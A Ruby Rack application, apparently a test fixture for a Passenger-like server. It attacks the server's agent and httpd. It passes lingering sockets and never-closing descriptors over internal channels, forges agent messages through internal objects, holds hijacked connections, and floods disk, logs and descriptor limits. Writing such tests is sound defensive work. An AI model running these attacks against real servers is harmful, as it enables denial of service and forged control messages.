# frozen_string_literal: true

# An application that attacks the agent and httpd: with descriptors whose last close waits for
# LINGER seconds, TCP connections with SO_LINGER and a peer that reads nothing (socket(7)); with
# connections that it takes over and never closes; with messages in the agent's name; with request
# bodies that it leaves in its reply channels or keeps; with answers that fill httpd's disk; and
# with output that fills the log.
#
# /control      sends such a descriptor to the agent, on the control socket
# /channel      sends such a descriptor to the httpd thread that waits for the answer
# /surplus      the same, with a part of the answer
# /nested       sends that thread, in one message, NESTED sockets with such a connection in each
#               one's buffer; says its pid
# /file/WHAT?SOCKET  sends a file whose close waits for ever, which it gets from that Unix socket,
#               as /control, /channel, /surplus and /answer do; with `many` a hundred times as
#               /channel.
#               It keeps the file open; with `keep` it does nothing else. With `output` a process
#               whose pid it says writes bytes of the file to the application's output
# /answer/WHAT  answers with a descriptor of such a kind as the file that ends the body
# /hold         takes the client's connection over, and keeps it
# /linger       closes the client's own socket with SO_LINGER, full of bytes, and writes tmp/closed
# /print        prints lines for as many seconds as the query says, `seconds=`, then a last one
# /flood        answers with as many bytes as the query says, `bytes=`
# /forge/TYPE/STATUS/NAME  sends the httpd thread a message of the agent, as if no instance had the
#               request; where the request comes again, it answers it
# /runs/NAME    says how often that request came
# /kept         says its pid, how many bodies it keeps, and how many bytes are in their files
# other         says hello
#
# With KEEP=files it keeps the file of each body; with KEEP=channels it takes no body, and keeps the
# reply channels.

require "fcntl"
require "fiddle"
require "socket"

# The files of bodies, and the channels with bodies that nobody has read.
KEPT = []

# Keeps the file of each body.
module KeepFiles
  def file
    super.tap { |file, _size| KEPT << file.dup if file }
  end
end

# Takes no body.
module TakeNothing
  def file; end
end

# Closes no channel, as long as the process can open others.
module KeepChannels
  def retire
    KEPT.size < Process.getrlimit(:NOFILE).first * 3 / 4 ? KEPT << @io : super
  end
end

class Attacker
  LINGER = 10
  NESTED = 100
  # Numbers that nothing else has.
  FIRST_NESTED = 1000
  CLOSE_RANGE = 436
  # That one message can have.
  MOST_DESCRIPTORS = 253
  O_PATH = 0o10000000
  # Seconds. httpd's thread takes the message before the answer comes.
  PAUSE = 1
  FORGED_TEXT = "The agent did not write this."

  def initialize
    @runs = Hash.new(0)
    @armed = false
  end

  def call(env)
    arm unless @armed
    return hold(env) if env["PATH_INFO"] == "/hold"
    return linger(env) if env["PATH_INFO"] == "/linger"
    return flood(env["QUERY_STRING"][/\d+/].to_i) if env["PATH_INFO"] == "/flood"
    return [200, {}, [file($1, env["QUERY_STRING"])]] if env["PATH_INFO"] =~ %r{\A/file/(\w+)\z}

    number = env["QUERY_STRING"][/\d+/].to_i
    said = env["PATH_INFO"] == "/print" ? print_lines(number) : answer(env["PATH_INFO"])
    [200, { "content-type" => "text/plain" }, [said]]
  end

  private

  # Not before the first request, since the instance loads its own classes after the application.
  def arm
    @armed = true
    case ENV.fetch("KEEP", nil)
    when "files"
      PhusionPassenger::BodySource.prepend(KeepFiles)
    when "channels"
      PhusionPassenger::BodySource.prepend(TakeNothing)
      PhusionPassenger::Channel.prepend(KeepChannels)
    end
  end

  def answer(path)
    case path
    when "/control" then outcome { attack_agent }
    when "/channel" then outcome { attack_child }
    when "/surplus" then outcome { attack_child(ticket) }
    when "/nested" then attack_closers
    when %r{\A/answer/(\w+)\z} then attack_reader($1)
    when %r{\A/forge/(\d+)/(\d+)/(\w+)\z} then forge(Integer($1), Integer($2), $3)
    when %r{\A/runs/(\w+)\z} then @runs[$1].to_s
    when "/kept" then "#{Process.pid} #{KEPT.size} #{bytes_kept}"
    else "hello"
    end
  end

  def bytes_kept
    KEPT.map(&:stat).select(&:file?).sum(&:size)
  end

  # Without a claim the child takes the request for one that no instance has.
  def forge(type, status, name)
    return "it came again" if (@runs[name] += 1) > 1

    handler.instance_variable_get(:@claim).clear
    message = [ticket, type, 1, status, 0, 0, 0].pack("Q<CCvVVV") + FORGED_TEXT
    busy_channel.send_message(message)
    sleep PAUSE
    "forged"
  end

  def handler
    ObjectSpace.each_object(PhusionPassenger::RequestHandler).find(&:busy?)
  end

  def ticket
    handler.instance_variable_get(:@buffer).unpack1("@16Q<")
  end

  def busy_channel
    ObjectSpace.each_object(PhusionPassenger::Channels).first
               .instance_variable_get(:@known).values
               .find { |one| one.instance_variable_get(:@borrowers).positive? }
  end

  def hold(env)
    stream = env["rack.hijack"].call
    stream.write("HTTP/1.1 200 OK\r\nConnection: close\r\n\r\nheld\n")
    (@held ||= []) << stream
    [-1, {}, []]
  end

  def linger(env)
    fill_to_linger(env["rack.hijack"].call).close
    File.write("#{__dir__}/tmp/closed", "")
    [-1, {}, []]
  end

  def flood(bytes)
    piece = "x" * 65_536
    [200, { "content-length" => bytes.to_s },
     Enumerator.new { |to| (bytes / piece.size).times { to << piece } }]
  end

  # Returns the number of bytes.
  def print_lines(seconds)
    block = "#{'x' * 60}\n" * 1000
    ending = Process.clock_gettime(Process::CLOCK_MONOTONIC) + seconds
    bytes = 0
    while Process.clock_gettime(Process::CLOCK_MONOTONIC) < ending
      $stdout.write(block)
      bytes += block.bytesize
    end
    $stdout.write("the last line\n")
    $stdout.flush
    bytes.to_s
  end

  def outcome
    yield
    "sent"
  rescue Errno::EPERM
    "refused"
  end

  # Yields a connection to be sent to another process. Then only its peer stays open here; or both,
  # if the connection could not be sent.
  def give_away
    connection = lingering_connection
    yield connection
    connection.close
  rescue Errno::EPERM
    @kept << connection
    raise
  end

  def lingering_connection
    server = TCPServer.new("127.0.0.1", 0)
    # Small buffers: there may be many of them.
    server.setsockopt(Socket::SOL_SOCKET, Socket::SO_RCVBUF, 4096)
    connection = TCPSocket.new("127.0.0.1", server.addr[1])
    connection.setsockopt(Socket::SOL_SOCKET, Socket::SO_SNDBUF, 4096)
    (@kept ||= []) << server.accept
    server.close
    fill_to_linger(connection)
  end

  def fill_to_linger(connection)
    connection.setsockopt(Socket::SOL_SOCKET, Socket::SO_LINGER, [1, LINGER].pack("ii"))
    nil until connection.write_nonblock("x" * 65_536, exception: false) == :wait_writable
    connection
  end

  def attack_agent
    give_away { |connection| send_agent(connection) }
  end

  def send_agent(io)
    socket = ObjectSpace.each_object(PhusionPassenger::FrameSocket).find { |one| !one.io.closed? }
    socket.write(PhusionPassenger::Frame::Control::HEARTBEAT, descriptors: [io])
  end

  # Closing the file would stop this process, too.
  def file(what, socket)
    file = UNIXSocket.open(socket, &:recv_io)
    (@kept ||= []) << file
    case what
    when "control" then outcome { send_agent(file) }
    when "channel" then outcome { busy_channel.send_descriptor(response(0), file) }
    when "surplus" then outcome { busy_channel.send_descriptor(response(ticket), file) }
    when "answer" then outcome { answer_with(file) }
    when "many" then outcome { 100.times { busy_channel.send_descriptor(response(0), file) } }
    when "keep" then Process.pid.to_s
    when "output" then fork { print_from(file) }.to_s
    end
  end

  # The kernel holds the pipe while it waits for the bytes.
  def print_from(file)
    $stdout.syswrite("before\n")
    read_shared = 1
    long = Fiddle::TYPE_LONG
    map = libc("mmap", Fiddle::TYPE_VOIDP, Fiddle::TYPE_VOIDP, *[long] * 5)
    address = map.call(nil, 4096, read_shared, read_shared, file.fileno, 0)
    libc("write", long, Fiddle::TYPE_INT, Fiddle::TYPE_VOIDP, long).call(1, address, 4096)
  ensure
    exit!
  end

  def libc(name, result, *arguments)
    Fiddle::Function.new(Fiddle::Handle::DEFAULT[name], arguments, result)
  end

  # A message of an unknown exchange: the child ignores it, and closes its descriptor.
  def attack_child(ticket = 0)
    channel = busy_channel
    give_away do |connection|
      channel.send_descriptor(response(ticket), connection)
    end
  end

  def attack_reader(kind)
    case kind
    when "socket" then give_away { |connection| answer_with(connection) }
    when "beyond" then File.open(__FILE__) { |file| answer_with(file, length: 1 << 40) }
    when "none" then answer_with
    when "many" then File.open(__FILE__) { |file| answer_with(*[file] * MOST_DESCRIPTORS) }
    else strange_file(kind).then { |file| answer_with(file) && file.close }
    end
    "sent"
  end

  def strange_file(kind)
    case kind
    when "pipe" then IO.pipe.first
    when "folder" then File.open("/")
    when "device" then File.open("/dev/zero")
    when "path" then File.open(__FILE__, O_PATH)
    when "written" then File.open("#{__dir__}/tmp/written", "w").tap { |file| file << "x" }
    when "kernel" then File.open("/sys/devices/system/cpu/possible")
    end
  end

  # The head of an answer, and then a file as the rest of its body.
  def answer_with(*files, length: 1)
    busy_channel.send_message([ticket, 1, 0, 200, 0, 0, 0].pack("Q<CCvVVV"))
    message = [ticket, 9, 1, 0, 0, 0, 0, 0, length].pack("Q<CCvVVVQ<Q<")
    rights = files.empty? ? [] : [Socket::AncillaryData.unix_rights(*files)]
    busy_channel.instance_variable_get(:@io).sendmsg(message, 0, nil, *rights)
  end

  # A socket does not linger itself, so the child cannot take its lingering away. The process that
  # sends them closes its own ones at once, so that the child's are the last. It may lose that race,
  # and waits then; so it is none that has requests. It keeps the peers until this one has ended.
  def attack_closers
    # A copy, since the instance's own descriptors are closed in processes that it forks.
    channel = busy_channel.instance_variable_get(:@io).dup
    parent = Process.pid
    Process.detach(fork do
      sockets = Array.new(NESTED) { |index| nested_socket(FIRST_NESTED + index) }
      channel.sendmsg(response(0), 0, nil, Socket::AncillaryData.unix_rights(*sockets))
      syscall(CLOSE_RANGE, FIRST_NESTED, FIRST_NESTED + NESTED - 1, 0)
      sleep 0.1 while Process.ppid == parent
      exit!
    end)
    channel.close
    parent.to_s
  end

  def nested_socket(number)
    outer, inner = UNIXSocket.pair(:SEQPACKET)
    give_away { |connection| inner.send_io(connection) }
    inner.close
    IO.for_fd(outer.fcntl(Fcntl::F_DUPFD, number), autoclose: false).tap { outer.close }
  end

  def response(ticket)
    [ticket, 1, 0, 0, 0, 0, 0].pack("Q<CCvVVV")
  end
end

run Attacker.new
